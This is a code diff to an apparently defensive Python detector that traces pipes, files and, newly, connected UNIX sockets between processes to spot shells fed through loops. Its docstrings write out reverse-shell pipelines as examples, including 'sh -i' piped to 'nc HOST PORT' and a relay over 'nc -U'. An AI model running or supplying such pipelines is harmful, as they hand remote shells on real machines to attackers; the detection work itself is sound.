@@ -21,6 +21,7 @@ from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 
 from .model import Process
+from .sockdiag import UnixPeers
 
 #: Programs that run the commands they read on their stdin (the signature's shells)
 SHELLS = frozenset({"sh", "bash", "rbash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "posh",
@@ -41,8 +42,8 @@ _TERMINALS = ("/dev/pts/", "/dev/tty", "/dev/console")
 
 @dataclass(frozen=True)
 class Ends:
-    """The pipes, FIFOs and files a process has open, by identity ('pipe:[N]',
-    'fifo:DEV:INO', 'file:DEV:INO')."""
+    """The pipes, FIFOs, files and UNIX sockets a process has open, by identity ('pipe:[N]',
+    'fifo:DEV:INO', 'file:DEV:INO', 'unix:INODE:PEER')."""
 
     reads: frozenset[str] = frozenset()
     writes: frozenset[str] = frozenset()
@@ -178,12 +179,21 @@ def stdio_links(pid: int) -> tuple[str, ...]:
     return tuple(_link(pid, fd) for fd in ("0", "1", "2"))
 
 
-def read_ends(pid: int) -> Ends:
+def read_ends(pid: int, peers: UnixPeers | None = None) -> Ends:
     """The pipes, FIFOs and regular files ``pid`` has open, each as read or written
-    (fdinfo's flags). A file closes a loop as a FIFO does where one process appends to it
-    and another follows it (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`)."""
+    (fdinfo's flags), and, given ``peers``, its connected UNIX sockets, each both. A file
+    closes a loop as a FIFO does where one process appends to it and another follows it
+    (`tail -f log | sh -i 2>&1 | nc HOST PORT >> log`), and a UNIX socket where its two ends'
+    holders pass on what they read (`… | nc -U SOCKET > f` to a relay holding the
+    connection)."""
     reads, writes = set(), set()
     for fd, link in _open_links(pid):
+        if link.startswith("socket:[") and peers is not None:
+            pair = _unix_pair(link, peers)
+            if pair is not None:
+                reads.add(pair)
+                writes.add(pair)
+            continue
         try:
             end = pipe_end(pid, fd, link, files=True)
             mode = _access_mode(pid, fd) if end is not None else None
@@ -195,6 +205,16 @@ def read_ends(pid: int) -> Ends:
             if mode != os.O_RDONLY:
                 writes.add(end)
     return Ends(frozenset(reads), frozenset(writes))
+
+
+def _unix_pair(link: str, peers: UnixPeers) -> str | None:
+    """'unix:A:B' (the two ends' inodes, in order) for a connected UNIX socket, else None."""
+    try:
+        inode = int(link[len("socket:["):-1])
+    except ValueError:
+        return None
+    peer = peers.peer(inode)
+    return None if peer is None else f"unix:{min(inode, peer)}:{max(inode, peer)}"
 
 
 def _access_mode(pid: int, fd: str) -> int | None:
